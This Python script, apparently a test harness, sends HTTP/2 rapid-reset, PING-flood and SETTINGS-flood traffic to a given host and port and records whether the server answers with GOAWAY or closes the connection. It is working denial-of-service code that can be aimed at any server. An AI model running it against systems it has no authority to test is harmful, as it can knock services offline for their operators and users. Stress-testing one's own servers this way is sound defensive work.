"""Frame-level abuse that node:http2 clients cannot produce. Usage: h2_abuse.py HOST PORT MODE COUNT [paced]
MODE: rapid-reset (HEADERS then RST_STREAM, COUNT times), ping-flood, settings-flood.
paced: a flood that reads the server's ACKs as it goes, never more than 50 frames ahead of them
(without it, frames are written as fast as the socket takes them).
Prints one JSON line: what was sent and how the server answered (GOAWAY code, bytes read)."""
import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events

host, port, mode, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
paced = len(sys.argv) > 5 and sys.argv[5] == 'paced'
AHEAD = 50
sock = socket.create_connection((host, port))
sock.settimeout(2.0)
conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
conn.initiate_connection()
sock.sendall(conn.data_to_send())
sent = 0
goaway = None
closed = False
received = 0
acks = 0


def drain(timeout):
    global goaway, closed, received, acks
    sock.settimeout(timeout)
    try:
        data = sock.recv(65536)
    except (socket.timeout, BlockingIOError):
        return
    except (ConnectionResetError, BrokenPipeError):
        closed = True
        return
    if not data:
        closed = True
        return
    received += len(data)
    try:
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ConnectionTerminated) and goaway is None:
                goaway = int(event.error_code)
            elif isinstance(event, (h2.events.PingAckReceived, h2.events.SettingsAcknowledged)):
                acks += 1
    except Exception:
        closed = True


try:
    for i in range(count):
        if mode == 'rapid-reset':
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, [(':method', 'POST'), (':scheme', 'http'), (':authority', f'{host}:{port}'),
                                    (':path', '/test.Svc/Echo'), ('content-type', 'application/grpc'), ('te', 'trailers')])
            conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
        elif mode == 'ping-flood':
            conn.ping(i.to_bytes(8, 'big'))
        elif mode == 'settings-flood':
            conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 65535 + (i % 100)})
        sock.sendall(conn.data_to_send())
        sent += 1
        if paced:
            until = time.time() + 2.0
            while sent - acks > AHEAD and not closed and goaway is None and time.time() < until:
                drain(0.05)
        elif i % 200 == 0:
            drain(0.001)
        if closed or goaway is not None:
            break
except (BrokenPipeError, ConnectionResetError, h2.exceptions.ProtocolError):
    closed = True
deadline = time.time() + 1.0
while not closed and time.time() < deadline:
    drain(0.2)
sock.close()
print(json.dumps({'mode': mode, 'sent': sent, 'goaway': goaway, 'closed': closed, 'received': received}))
